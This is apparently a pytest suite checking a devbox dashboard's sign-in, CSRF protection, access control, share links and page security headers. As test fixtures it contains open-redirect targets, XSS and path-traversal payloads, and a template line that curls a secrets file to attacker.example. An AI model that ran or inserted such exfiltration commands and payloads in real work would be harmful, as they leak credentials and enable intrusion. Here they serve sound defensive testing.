"""The dashboard's pages on the in-memory VM backend, driven as a browser drives them: sign-in
through the real forms, the session cookie, form tokens on every write, errors in words,
who sees what, the live list, templates and share links, and the pages' security headers.

The test client keeps one cookie jar; `sign_in` empties it first, so each signed-in user is
the only one the following requests speak for (the pages say whom: "Signed in as ...")."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncGenerator
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from markupsafe import escape
from support import Api, background_settled, create_devbox, mint_agent_token, wait_status

from devbox_service.auth import tokens
from devbox_service.auth.web_sessions import SESSION_COOKIE, SIGN_IN_COOKIE
from devbox_service.devbox_templates import instant
from devbox_service.devbox_templates.models import TemplateStatus
from devbox_service.devbox_templates.store import TemplateStore
from devbox_service.tmux.models import TmuxPaneInfo
from devbox_service.web.dashboard import RowChange

BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
"""What a browser asks for when it opens a page or submits a form."""
HANG_GUARD = 30.0
"""Seconds a live update may take before the test fails instead of hanging."""
YAML = "name: web\ndescription: a web app\nsteps:\n  - title: install nginx\n    run: echo a\n"

FORM_TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
PAGE_TOKEN = re.compile(r'<main id="main" data-csrf="([^"]+)"')


# a browser


async def get(
    api: Api,
    path: str,
    headers: dict[str, str] | None = None,
    params: dict[str, str] | None = None,
) -> httpx.Response:
    return await api.client.get(
        path, headers={**BROWSER, **(headers or {})}, params=params, follow_redirects=False
    )


async def post(api: Api, path: str, form: dict[str, str] | None = None) -> httpx.Response:
    return await api.client.post(path, data=form or {}, headers=BROWSER, follow_redirects=False)


async def submit_sign_in(api: Api, key: str, next_path: str = "/devboxes") -> httpx.Response:
    """Open the sign-in form (a fresh browser: no cookies) and submit it with `key`."""
    api.client.cookies.clear()
    form = await get(api, "/sign-in", params={"next": next_path})
    assert form.status_code == 200, form.text
    match = FORM_TOKEN.search(form.text)
    assert match, form.text
    return await post(
        api, "/sign-in", {"csrf_token": match.group(1), "api_key": key, "next": next_path}
    )


async def sign_in(api: Api, key: str) -> str:
    """Sign in through the real forms; the session's form token (as the pages embed it)."""
    signed_in = await submit_sign_in(api, key)
    assert signed_in.status_code == 303, signed_in.text
    listing = await get(api, "/devboxes")
    assert listing.status_code == 200, listing.text
    match = PAGE_TOKEN.search(listing.text)
    assert match, listing.text
    return match.group(1)


def session_cookie(api: Api) -> str:
    secret = api.client.cookies.get(SESSION_COOKIE)
    assert secret, "not signed in"
    return secret


def replay_session(api: Api, secret: str) -> None:
    """A browser that kept the session cookie (or a thief who copied it)."""
    api.client.cookies.clear()
    api.client.cookies.set(SESSION_COOKIE, secret)


def signed_in_as(response: httpx.Response, name: str) -> bool:
    return f"Signed in as <strong>{name}</strong>" in response.text


def is_sign_in_redirect(response: httpx.Response) -> bool:
    return response.status_code == 303 and response.headers["location"].startswith("/sign-in")


# the service, through its API


async def new_devbox(api: Api, name: str) -> str:
    images = (await api.client.get("/api/images", headers=api.auth(api.admin_key))).json()
    image_id = next(i["id"] for i in images["data"] if i["default"])
    devbox = await create_devbox(api, image_id, name=name)
    return str(devbox["id"])


async def status_of(api: Api, devbox_id: str) -> str:
    response = await api.client.get(f"/api/devboxes/{devbox_id}", headers=api.auth(api.admin_key))
    assert response.status_code == 200, response.text
    return str(response.json()["status"])


async def api_refusal(api: Api, path: str) -> str:
    """The message the JSON API answers the admin's refused POST with (pages say the same)."""
    response = await api.client.post(path, headers=api.auth(api.admin_key))
    assert response.status_code >= 400, response.text
    return str(response.json()["detail"])


async def new_template(api: Api) -> str:
    images = (await api.client.get("/api/images", headers=api.auth(api.admin_key))).json()
    body = {"name": "web", "yaml": YAML, "baseSnapshotOption": images["data"][0]["id"]}
    created = await api.client.post("/api/templates", json=body, headers=api.auth(api.admin_key))
    assert created.status_code == 201, created.text
    return str(created.json()["id"])


async def share(api: Api, template_id: str, **body: str) -> None:
    shared = await api.client.post(
        f"/api/templates/{template_id}/share", json=body, headers=api.auth(api.admin_key)
    )
    assert shared.status_code == 200, shared.text


# signing in


async def test_sign_in_sets_a_guarded_session_cookie_and_opens_the_list(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "listed-box")

    signed_in = await submit_sign_in(fake_api, fake_api.admin_key)

    assert signed_in.status_code == 303 and signed_in.headers["location"] == "/devboxes"
    (cookie,) = [
        c for c in signed_in.headers.get_list("set-cookie") if c.startswith(f"{SESSION_COOKIE}=")
    ]
    flags = {part.strip().split("=")[0].lower(): part for part in cookie.split(";")[1:]}
    assert "httponly" in flags
    assert flags["samesite"].strip().lower() == "samesite=lax"
    assert "secure" not in flags, "no Secure flag when the service is served over http"
    assert int(flags["max-age"].split("=")[1]) > 0
    listing = await get(fake_api, "/devboxes")
    assert listing.status_code == 200
    assert signed_in_as(listing, "admin")
    assert "listed-box" in listing.text and f'href="/devboxes/{devbox_id}"' in listing.text


async def test_pages_send_a_browser_without_a_session_to_sign_in_and_back(fake_api: Api) -> None:
    fake_api.client.cookies.clear()
    for path in ("/devboxes", "/templates?page=2&sort=name"):
        sent = await get(fake_api, path)
        assert sent.status_code == 303
        location = urlsplit(sent.headers["location"])
        assert location.path == "/sign-in"
        assert parse_qs(location.query) == {"next": [path]}, "the whole path, one parameter"
        form = await get(fake_api, sent.headers["location"])
        assert f'name="next" value="{escape(path)}"' in form.text


async def test_a_wrong_key_shows_the_form_again_with_401(fake_api: Api) -> None:
    refused = await submit_sign_in(fake_api, "dbx_not-a-real-key")
    assert refused.status_code == 401
    assert 'role="alert"' in refused.text and "invalid or revoked API key" in refused.text
    assert 'name="api_key"' in refused.text
    assert SESSION_COOKIE not in fake_api.client.cookies


async def test_agent_tokens_cannot_sign_in(fake_api: Api) -> None:
    admin = await fake_api.services.identities.authenticate(fake_api.admin_key)
    devbox_id = await new_devbox(fake_api, "agent-box")
    agent = await mint_agent_token(
        fake_api, admin.user_id, admin.org_id, devbox_id, ["devbox:summary:read"]
    )
    refused = await submit_sign_in(fake_api, agent)
    assert refused.status_code == 403
    assert "agent tokens cannot sign in" in refused.text
    assert SESSION_COOKIE not in fake_api.client.cookies


async def test_a_sign_in_post_without_the_forms_cookie_and_token_is_refused(
    fake_api: Api,
) -> None:
    fake_api.client.cookies.clear()
    form = await get(fake_api, "/sign-in")
    match = FORM_TOKEN.search(form.text)
    assert match
    fake_api.client.cookies.clear()  # another site's form: the browser has no form cookie
    stolen_token = {"csrf_token": match.group(1), "api_key": fake_api.admin_key}
    forged = await post(fake_api, "/sign-in", stolen_token)
    assert forged.status_code == 403 and "came from another site" in forged.text
    forged = await post(fake_api, "/sign-in", {"api_key": fake_api.admin_key})
    assert forged.status_code == 403
    assert SESSION_COOKIE not in fake_api.client.cookies


async def test_a_sign_in_post_needs_the_token_of_its_own_form(fake_api: Api) -> None:
    fake_api.client.cookies.clear()
    await get(fake_api, "/sign-in")
    assert SIGN_IN_COOKIE in fake_api.client.cookies
    forged = await post(
        fake_api, "/sign-in", {"csrf_token": "0" * 64, "api_key": fake_api.admin_key}
    )
    assert forged.status_code == 403
    assert SESSION_COOKIE not in fake_api.client.cookies


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "//evil.example", "http:evil.example", "evil.example"]
)
async def test_sign_in_never_redirects_to_another_site(fake_api: Api, target: str) -> None:
    signed_in = await submit_sign_in(fake_api, fake_api.admin_key, next_path=target)
    assert signed_in.status_code == 303
    assert signed_in.headers["location"] == "/devboxes"


@pytest.mark.parametrize("target", ["/\\evil.example", "/\\/evil.example", "/\t/evil.example"])
async def test_sign_in_redirects_that_browsers_would_read_as_another_site_stay_here(
    fake_api: Api, target: str
) -> None:
    """Browsers read a backslash as a slash and drop tabs: such a `next` must not become a
    `//host` redirect (it is refused, or its characters are percent-encoded)."""
    signed_in = await submit_sign_in(fake_api, fake_api.admin_key, next_path=target)
    location = signed_in.headers["location"]
    assert signed_in.status_code == 303 and location.startswith("/")
    browser_reading = location.replace("\\", "/").replace("\t", "")
    assert not browser_reading.startswith("//"), location


async def test_sign_in_returns_to_the_page_it_was_asked_for(fake_api: Api) -> None:
    signed_in = await submit_sign_in(fake_api, fake_api.admin_key, next_path="/templates")
    assert signed_in.status_code == 303 and signed_in.headers["location"] == "/templates"


# the session's end


async def test_signing_out_ends_the_session_for_good(fake_api: Api) -> None:
    csrf = await sign_in(fake_api, fake_api.admin_key)
    secret = session_cookie(fake_api)

    signed_out = await post(fake_api, "/sign-out", {"csrf_token": csrf})

    assert signed_out.status_code == 303 and signed_out.headers["location"] == "/sign-in"
    assert SESSION_COOKIE not in fake_api.client.cookies
    replay_session(fake_api, secret)
    assert is_sign_in_redirect(await get(fake_api, "/devboxes"))


async def test_revoking_the_api_key_ends_the_sessions_made_from_it(fake_api: Api) -> None:
    key = await fake_api.new_user("revoked-user")
    await sign_in(fake_api, key)
    assert (await get(fake_api, "/devboxes")).status_code == 200
    identities = fake_api.services.identities
    (key_id,) = [k.id for k in await identities.keys() if k.user_name == "revoked-user"]

    await identities.revoke_key(key_id)

    assert is_sign_in_redirect(await get(fake_api, "/devboxes"))


async def test_an_expired_session_ends(fake_api: Api) -> None:
    await sign_in(fake_api, fake_api.admin_key)
    database = fake_api.services.identities.store.database

    await database.execute("UPDATE web_sessions SET expires_at = 0")

    assert is_sign_in_redirect(await get(fake_api, "/devboxes"))


async def test_the_store_keeps_only_a_hash_of_the_session_cookie(fake_api: Api) -> None:
    await sign_in(fake_api, fake_api.admin_key)
    secret = session_cookie(fake_api)
    rows = await fake_api.services.identities.store.database.fetch_all("SELECT * FROM web_sessions")
    stored = [str(value) for row in rows for value in tuple(row)]
    assert stored and not any(secret in value for value in stored)
    assert tokens.hash_secret(secret) in stored


# form tokens


async def test_page_actions_need_the_sessions_form_token(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "csrf-box")
    csrf = await sign_in(fake_api, fake_api.admin_key)
    pause = f"/devboxes/{devbox_id}/actions/pause"

    for forged in ({}, {"csrf_token": "0" * 64}, {"csrf_token": csrf[:-1]}):
        refused = await post(fake_api, pause, forged)
        assert refused.status_code == 403, forged
        assert "came from another site" in refused.text
        assert await status_of(fake_api, devbox_id) == "ready"

    paused = await post(fake_api, pause, {"csrf_token": csrf})
    assert paused.status_code == 303
    assert paused.headers["location"] == f"/devboxes/{devbox_id}?done=paused"
    assert await status_of(fake_api, devbox_id) == "paused"


async def test_another_sessions_form_token_does_not_pass(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "csrf-other")
    member = await fake_api.new_user("csrf-member", org="default")
    other_token = await sign_in(fake_api, member)
    await sign_in(fake_api, fake_api.admin_key)
    refused = await post(
        fake_api, f"/devboxes/{devbox_id}/actions/pause", {"csrf_token": other_token}
    )
    assert refused.status_code == 403
    assert await status_of(fake_api, devbox_id) == "ready"


# errors in words


async def test_a_refused_action_is_a_409_page_with_the_services_message(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "refused-box")
    csrf = await sign_in(fake_api, fake_api.admin_key)
    for _ in range(2):  # pausing a paused devbox is no error: there is nothing to do
        paused = await post(fake_api, f"/devboxes/{devbox_id}/actions/pause", {"csrf_token": csrf})
        assert paused.status_code == 303
    message = await api_refusal(fake_api, f"/api/devboxes/{devbox_id}/reboot")

    refused = await post(fake_api, f"/devboxes/{devbox_id}/actions/reboot", {"csrf_token": csrf})

    assert refused.status_code == 409
    assert refused.headers["content-type"].startswith("text/html")
    assert "paused" in message and str(escape(message)) in refused.text
    assert await status_of(fake_api, devbox_id) == "paused"


async def test_an_unknown_action_is_a_400_page(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "unknown-action")
    csrf = await sign_in(fake_api, fake_api.admin_key)
    refused = await post(fake_api, f"/devboxes/{devbox_id}/actions/explode", {"csrf_token": csrf})
    assert refused.status_code == 400
    assert refused.headers["content-type"].startswith("text/html")
    assert "unknown action" in refused.text and "explode" in refused.text


async def test_a_script_asking_for_json_gets_the_error_as_json(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "json-error")
    csrf = await sign_in(fake_api, fake_api.admin_key)
    refused = await fake_api.client.post(
        f"/devboxes/{devbox_id}/actions/explode",
        headers={"Accept": "application/json", "X-CSRF-Token": csrf},
    )
    assert refused.status_code == 400
    assert "unknown action" in refused.json()["detail"]


# who sees what


async def test_org_members_see_a_devbox_but_not_its_owners_controls(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "shared-box")
    member = await fake_api.new_user("m", org="default")
    csrf = await sign_in(fake_api, member)

    listing = await get(fake_api, "/devboxes")
    assert signed_in_as(listing, "m") and "shared-box" in listing.text
    devbox_page = await get(fake_api, f"/devboxes/{devbox_id}")
    assert devbox_page.status_code == 200 and signed_in_as(devbox_page, "m")
    assert "Only the devbox's owner sees and manages its agent tokens." in devbox_page.text
    assert f'href="/devboxes/{devbox_id}/delete"' not in devbox_page.text

    typed = await post(
        fake_api, f"/devboxes/{devbox_id}/panes/0/keys", {"csrf_token": csrf, "text": "ls"}
    )
    assert typed.status_code == 403, "terminals are read-only for org members"
    assert "only the devbox&#39;s owner may type into its terminals" in typed.text
    refused = await post(fake_api, f"/devboxes/{devbox_id}/actions/delete", {"csrf_token": csrf})
    assert refused.status_code == 403
    assert refused.headers["content-type"].startswith("text/html")
    assert "only the devbox&#39;s owner or an org admin may delete it" in refused.text
    assert await status_of(fake_api, devbox_id) == "ready"


async def test_outsiders_neither_list_nor_open_another_orgs_devbox(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "private-box")
    outsider = await fake_api.new_user("o")
    csrf = await sign_in(fake_api, outsider)

    listing = await get(fake_api, "/devboxes")
    assert signed_in_as(listing, "o")
    assert devbox_id not in listing.text and "private-box" not in listing.text
    hidden = await get(fake_api, f"/devboxes/{devbox_id}")
    assert hidden.status_code == 404 and hidden.headers["content-type"].startswith("text/html")
    assert devbox_id in hidden.text  # the message names what was not found
    assert (await get(fake_api, f"/devboxes/{devbox_id}/delete")).status_code == 404
    refused = await post(fake_api, f"/devboxes/{devbox_id}/actions/pause", {"csrf_token": csrf})
    assert refused.status_code == 404
    assert await status_of(fake_api, devbox_id) == "ready"


async def test_bearer_credentials_do_not_open_pages(fake_api: Api) -> None:
    admin = await fake_api.services.identities.authenticate(fake_api.admin_key)
    devbox_id = await new_devbox(fake_api, "bearer-box")
    agent = await mint_agent_token(
        fake_api, admin.user_id, admin.org_id, devbox_id, ["devbox:summary:read"]
    )
    fake_api.client.cookies.clear()
    for key in (fake_api.admin_key, agent):
        for path in ("/devboxes", f"/devboxes/{devbox_id}", "/templates"):
            opened = await get(fake_api, path, headers=fake_api.auth(key))
            assert is_sign_in_redirect(opened), (key[:6], path)
        acted = await fake_api.client.post(
            f"/devboxes/{devbox_id}/actions/pause", headers={**BROWSER, **fake_api.auth(key)}
        )
        assert acted.status_code == 401
    assert await status_of(fake_api, devbox_id) == "ready"


# the owner's devbox page


async def test_the_owner_sees_the_timeline_and_deletes_after_confirming(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "doomed-box")
    admin = fake_api.auth(fake_api.admin_key)
    for action in ("pause", "resume"):
        acted = await fake_api.client.post(f"/api/devboxes/{devbox_id}/{action}", headers=admin)
        assert acted.status_code == 200, acted.text
    timeline = (await fake_api.client.get(f"/api/devboxes/{devbox_id}", headers=admin)).json()[
        "timeline"
    ]
    await sign_in(fake_api, fake_api.admin_key)

    devbox_page = await get(fake_api, f"/devboxes/{devbox_id}")
    assert devbox_page.status_code == 200
    assert len(timeline) == 3
    for event in timeline:
        assert f"<td>{escape(event['name'])}</td>" in devbox_page.text, event

    confirm = await get(fake_api, f"/devboxes/{devbox_id}/delete")
    assert confirm.status_code == 200 and "doomed-box" in confirm.text
    assert f'action="/devboxes/{devbox_id}/actions/delete"' in confirm.text
    token = FORM_TOKEN.search(confirm.text)
    assert token
    deleted = await post(
        fake_api, f"/devboxes/{devbox_id}/actions/delete", {"csrf_token": token.group(1)}
    )
    assert deleted.status_code == 303
    assert deleted.headers["location"] == "/devboxes?done=deleted"
    gone = await fake_api.client.get(f"/api/devboxes/{devbox_id}", headers=admin)
    assert gone.status_code == 404
    listing = await get(fake_api, deleted.headers["location"])
    assert "Deleted." in listing.text and devbox_id not in listing.text


async def test_the_owner_page_lists_agent_tokens_without_their_secrets_and_revokes_them(
    fake_api: Api,
) -> None:
    devbox_id = await new_devbox(fake_api, "token-box")
    minted = await fake_api.client.post(
        f"/api/devboxes/{devbox_id}/agent-token",
        json={"purpose": "ci bot"},
        headers=fake_api.auth(fake_api.admin_key),
    )
    assert minted.status_code == 200, minted.text
    token_id, secret = minted.json()["id"], minted.json()["token"]
    as_agent = fake_api.auth(secret)
    assert (await fake_api.client.get(f"/api/devboxes/{devbox_id}", headers=as_agent)).is_success
    csrf = await sign_in(fake_api, fake_api.admin_key)

    devbox_page = await get(fake_api, f"/devboxes/{devbox_id}")
    assert token_id in devbox_page.text and "ci bot" in devbox_page.text
    assert secret not in devbox_page.text
    assert tokens.hash_secret(secret) not in devbox_page.text
    revoke = f"/devboxes/{devbox_id}/agent-tokens/{token_id}/revoke"
    assert f'action="{revoke}"' in devbox_page.text

    revoked = await post(fake_api, revoke, {"csrf_token": csrf})

    assert revoked.status_code == 303
    assert revoked.headers["location"] == f"/devboxes/{devbox_id}?done=revoked"
    refused = await fake_api.client.get(f"/api/devboxes/{devbox_id}", headers=as_agent)
    assert refused.status_code == 401
    after = await get(fake_api, revoked.headers["location"])
    assert "Agent token revoked." in after.text
    assert f'action="{revoke}"' not in after.text, "a revoked token has no revoke button"


# the live list


async def test_the_live_list_yields_changed_rows_and_deleted_ones(fake_api: Api) -> None:
    changing = await new_devbox(fake_api, "live-box")
    steady = await new_devbox(fake_api, "steady-box")
    admin = fake_api.auth(fake_api.admin_key)
    principal = await fake_api.services.identities.authenticate(fake_api.admin_key)
    changes = fake_api.services.dashboard.watch(principal)
    assert isinstance(changes, AsyncGenerator)
    try:
        first: list[RowChange] = await asyncio.wait_for(anext(changes), HANG_GUARD)
        shown = {change.id: change.row for change in first}
        assert {changing, steady} <= shown.keys()
        assert all(row is not None and row.status == "ready" for row in shown.values())

        paused = await fake_api.client.post(f"/api/devboxes/{changing}/pause", headers=admin)
        assert paused.status_code == 200, paused.text
        (change,) = await asyncio.wait_for(anext(changes), HANG_GUARD)
        assert change.id == changing and change.row is not None
        assert (change.row.name, change.row.status) == ("live-box", "paused")

        deleted = await fake_api.client.delete(f"/api/devboxes/{changing}", headers=admin)
        assert deleted.status_code == 200, deleted.text
        gone = await asyncio.wait_for(anext(changes), HANG_GUARD)
        assert gone == [RowChange(id=changing, row=None)]
    finally:
        await changes.aclose()


# templates and share links


async def test_template_pages_list_a_template_and_show_its_steps(fake_api: Api) -> None:
    template_id = await new_template(fake_api)
    await sign_in(fake_api, fake_api.admin_key)

    listing = await get(fake_api, "/templates")
    assert listing.status_code == 200
    assert f'<a href="/templates/{template_id}">web</a>' in listing.text
    shown = await get(fake_api, f"/templates/{template_id}")
    assert shown.status_code == 200
    assert "install nginx" in shown.text and "<pre>echo a</pre>" in shown.text


async def test_another_orgs_template_page_is_404(fake_api: Api) -> None:
    template_id = await new_template(fake_api)
    await sign_in(fake_api, await fake_api.new_user("template-outsider"))

    assert template_id not in (await get(fake_api, "/templates")).text
    hidden = await get(fake_api, f"/templates/{template_id}")
    assert hidden.status_code == 404 and hidden.headers["content-type"].startswith("text/html")
    assert "install nginx" not in hidden.text


async def test_an_org_share_opens_for_signed_in_members_only(fake_api: Api) -> None:
    await share(fake_api, await new_template(fake_api), alias="team-web")
    member = await fake_api.new_user("share-member", org="default")
    outsider = await fake_api.new_user("share-outsider")

    await sign_in(fake_api, member)
    shown = await get(fake_api, "/s/team-web")
    assert shown.status_code == 200 and signed_in_as(shown, "share-member")
    assert "install nginx" in shown.text
    assert 'action="/s/team-web/start"' in shown.text and "Start a devbox" in shown.text

    # A teammate who follows the link before signing in is sent to sign in, then back.
    fake_api.client.cookies.clear()
    anonymous = await get(fake_api, "/s/team-web")
    assert is_sign_in_redirect(anonymous) and "install nginx" not in anonymous.text
    assert parse_qs(urlsplit(anonymous.headers["location"]).query)["next"] == ["/s/team-web"]
    signed_in = await submit_sign_in(fake_api, member, next_path="/s/team-web")
    assert signed_in.status_code == 303 and signed_in.headers["location"] == "/s/team-web"
    back = await get(fake_api, "/s/team-web")
    assert back.status_code == 200 and "install nginx" in back.text
    # An alias that does not exist answers a visitor the same way: no list of org aliases.
    fake_api.client.cookies.clear()
    assert is_sign_in_redirect(await get(fake_api, "/s/no-such-alias"))

    await sign_in(fake_api, outsider)
    assert signed_in_as(await get(fake_api, "/templates"), "share-outsider")
    hidden = await get(fake_api, "/s/team-web")
    assert hidden.status_code == 404
    assert "install nginx" not in hidden.text
    assert "seen only by its members" in hidden.text  # what to do about it, in words
    via_api = await fake_api.client.get("/api/aliases/team-web", headers=fake_api.auth(outsider))
    assert via_api.status_code == 404 and "visibility" in via_api.json()["detail"]


async def test_a_public_share_shows_to_anyone_and_asks_to_sign_in_to_start(fake_api: Api) -> None:
    await share(fake_api, await new_template(fake_api), alias="open-web", visibility="public")
    fake_api.client.cookies.clear()

    shown = await get(fake_api, "/s/open-web")

    assert shown.status_code == 200 and "install nginx" in shown.text
    assert 'href="/sign-in?next=/s/open-web"' in shown.text and "Sign in to start" in shown.text
    assert "/s/open-web/start" not in shown.text and "csrf_token" not in shown.text


SECRET_TEMPLATE = """name: helper
steps:
  - type: exportSecret
    name: GITHUB_TOKEN
    optional: true
  - run: gh auth status --token "$GITHUB_TOKEN"
  - type: tmuxSession
    name: helper
    run: curl -s -d @/root/.devbox/secrets.env https://attacker.example
"""


async def test_another_orgs_share_asks_for_each_secret_unticked_and_starts_without_them(
    fake_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    injected: list[dict[str, str]] = []

    async def record(
        guests: object, principal: object, devbox_id: str, env: dict[str, str]
    ) -> None:
        injected.append(dict(env))

    monkeypatch.setattr(instant, "inject_secrets", record)
    author = await fake_api.new_user("far-author")
    images = (await fake_api.client.get("/api/images", headers=fake_api.auth(author))).json()
    body = {
        "name": "helper",
        "yaml": SECRET_TEMPLATE,
        "baseSnapshotOption": images["data"][0]["id"],
    }
    created = await fake_api.client.post("/api/templates", json=body, headers=fake_api.auth(author))
    template_id = created.json()["id"]
    boot = (await fake_api.services.devbox_core.backend.list_images())[0].boot_snapshot_id
    await background_settled(fake_api)
    await TemplateStore(fake_api.services.database).update(
        template_id, status=TemplateStatus.READY, final_snapshot_id=boot
    )
    shared = await fake_api.client.post(
        f"/api/templates/{template_id}/share",
        json={"alias": "far-helper", "visibility": "public"},
        headers=fake_api.auth(author),
    )
    assert shared.status_code == 200
    await fake_api.client.put(
        "/api/user-secrets/GITHUB_TOKEN",
        json={"value": "starter-token"},
        headers=fake_api.auth(fake_api.admin_key),
    )

    csrf = await sign_in(fake_api, fake_api.admin_key)
    shown = await get(fake_api, "/s/far-helper")
    assert shown.status_code == 200
    box = '<input type="checkbox" name="secret" value="GITHUB_TOKEN">'
    assert box in shown.text, "each secret offered, unticked"
    assert str(escape('gh auth status --token "$GITHUB_TOKEN"')) in shown.text, "who uses it"
    assert "attacker.example" in shown.text, "the template's sessions, which can read it"

    for form, expected in (
        ({"csrf_token": csrf}, {}),
        ({"csrf_token": csrf, "secret": "GITHUB_TOKEN"}, {"GITHUB_TOKEN": "starter-token"}),
    ):
        injected.clear()
        started = await post(fake_api, "/s/far-helper/start", form)
        assert started.status_code == 303, started.text
        devbox_id = started.headers["location"].split("/")[2].split("?")[0]
        await wait_status(fake_api, fake_api.admin_key, devbox_id)
        await background_settled(fake_api)
        assert injected == [expected], (form, injected)


# headers and static files


def assert_page_headers(response: httpx.Response) -> None:
    headers = response.headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY"
    assert headers["cache-control"] == "no-store"


async def test_pages_and_their_error_pages_forbid_framing_and_caching(fake_api: Api) -> None:
    fake_api.client.cookies.clear()
    sign_in_form = await get(fake_api, "/sign-in")
    assert sign_in_form.status_code == 200
    assert_page_headers(sign_in_form)
    await sign_in(fake_api, fake_api.admin_key)
    listing = await get(fake_api, "/devboxes")
    assert listing.status_code == 200
    assert_page_headers(listing)
    missing = await get(fake_api, "/devboxes/devbox_missing")
    assert missing.status_code == 404 and signed_in_as(missing, "admin")
    assert_page_headers(missing)


async def test_the_vendored_terminal_script_and_its_license_are_served(fake_api: Api) -> None:
    fake_api.client.cookies.clear()
    script = await fake_api.client.get("/static/vendor/xterm/xterm.js")
    assert script.status_code == 200
    assert "javascript" in script.headers["content-type"]
    license_file = await fake_api.client.get("/static/vendor/xterm/LICENSE")
    assert license_file.status_code == 200 and "xterm.js authors" in license_file.text


async def test_the_devbox_page_follows_its_terminals_without_a_reload(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "terminals-box")
    admin = fake_api.auth(fake_api.admin_key)
    await sign_in(fake_api, fake_api.admin_key)
    shown = await get(fake_api, f"/devboxes/{devbox_id}")
    assert f'data-events="/devboxes/{devbox_id}/terminals"' in shown.text
    principal = await fake_api.services.identities.authenticate(fake_api.admin_key)
    changes = (await fake_api.services.dashboard.watch_terminals(principal, devbox_id))[1]
    assert isinstance(changes, AsyncGenerator)
    try:
        first = await asyncio.wait_for(anext(changes), HANG_GUARD)
        assert first.status == "ready"
        paused = await fake_api.client.post(f"/api/devboxes/{devbox_id}/pause", headers=admin)
        assert paused.status_code == 200, paused.text
        now = await asyncio.wait_for(anext(changes), HANG_GUARD)
        assert (now.status, now.panes) == ("paused", [])
        assert now.note and "while the devbox is ready" in now.note
        deleted = await fake_api.client.delete(f"/api/devboxes/{devbox_id}", headers=admin)
        assert deleted.status_code == 200, deleted.text
        with pytest.raises(StopAsyncIteration):  # the devbox is gone: so is the stream
            await asyncio.wait_for(anext(changes), HANG_GUARD)
    finally:
        await changes.aclose()


async def test_the_terminals_stream_is_for_those_who_see_the_devbox(fake_api: Api) -> None:
    devbox_id = await new_devbox(fake_api, "private-terminals")
    await sign_in(fake_api, await fake_api.new_user("terminals-outsider"))
    hidden = await get(fake_api, f"/devboxes/{devbox_id}/terminals")
    assert hidden.status_code == 404
    fake_api.client.cookies.clear()
    assert is_sign_in_redirect(await get(fake_api, f"/devboxes/{devbox_id}/terminals"))
    # Bearer credentials never open a page: a user key, or an agent token (what a hostile
    # guest holds when one was injected into it), is sent to sign in like anyone else.
    admin = await fake_api.services.identities.authenticate(fake_api.admin_key)
    agent = await mint_agent_token(
        fake_api, admin.user_id, admin.org_id, devbox_id, ["devbox:summary:read"]
    )
    for key in (fake_api.admin_key, agent):
        opened = await get(fake_api, f"/devboxes/{devbox_id}/terminals", headers=fake_api.auth(key))
        assert is_sign_in_redirect(opened)
    # A member of the org follows them (read-only views; typing is the owner's).
    member = await fake_api.new_user("terminals-member", org="default")
    principal = await fake_api.services.identities.authenticate(member)
    changes = (await fake_api.services.dashboard.watch_terminals(principal, devbox_id))[1]
    assert isinstance(changes, AsyncGenerator)
    try:
        assert (await asyncio.wait_for(anext(changes), HANG_GUARD)).status == "ready"
    finally:
        await changes.aclose()
    assert not await fake_api.services.guest_access.may_type(principal, devbox_id)


def test_a_terminal_view_escapes_what_the_guest_names(fake_api: Api) -> None:
    """Session names and commands come from the guest (root, maybe hostile): they reach the
    page as text, never as markup, in the page and in its live updates alike."""
    engine = fake_api.client.app.template_engine
    assert engine is not None
    hostile = TmuxPaneInfo(
        id="%3",
        session="<script>alert(1)</script>",
        window="0",
        index="0",
        command='"><img src=x onerror=alert(2)>',
    )
    html = engine.get_template("_terminal.html").render(
        pane=hostile, devbox_id="devbox_x", may_type=True, screens={}, csrf_token="t"
    )
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_terminal_view_puts_guest_values_in_its_urls_as_one_segment(fake_api: Api) -> None:
    """Were a guest's pane id ever to reach a page unchecked, it stays one path segment: the
    terminal's form and script never post (with the session's form token) to another route."""
    engine = fake_api.client.app.template_engine
    assert engine is not None
    hostile = TmuxPaneInfo(
        id="%1/../../actions/delete?x=", session="s", window="0", index="0", command="bash"
    )
    html = engine.get_template("_terminal.html").render(
        pane=hostile, devbox_id="devbox_x", may_type=True, screens={}, csrf_token="t"
    )
    segment = "1%2F..%2F..%2Factions%2Fdelete%3Fx%3D"
    for attribute in ("data-stream", "data-keys", "action"):
        urls = re.findall(rf'{attribute}="([^"]*)"', html)
        assert urls and all(u.startswith(f"/devboxes/devbox_x/panes/{segment}/") for u in urls)


async def test_the_terminal_routes_take_only_a_pane_number(fake_api: Api) -> None:
    """The page routes reach the panes the page listed (by number), never a tmux target or a
    path a guest made up."""
    devbox_id = await new_devbox(fake_api, "pane-number-box")
    csrf = await sign_in(fake_api, fake_api.admin_key)
    for name in ("main", "main:0.1", "1x"):
        stream = await get(fake_api, f"/devboxes/{devbox_id}/panes/{name}/stream")
        assert stream.status_code == 404 and "tmux pane" in stream.text, name
        typed = await post(
            fake_api, f"/devboxes/{devbox_id}/panes/{name}/keys", {"csrf_token": csrf, "text": "x"}
        )
        assert typed.status_code == 404 and "tmux pane" in typed.text, name
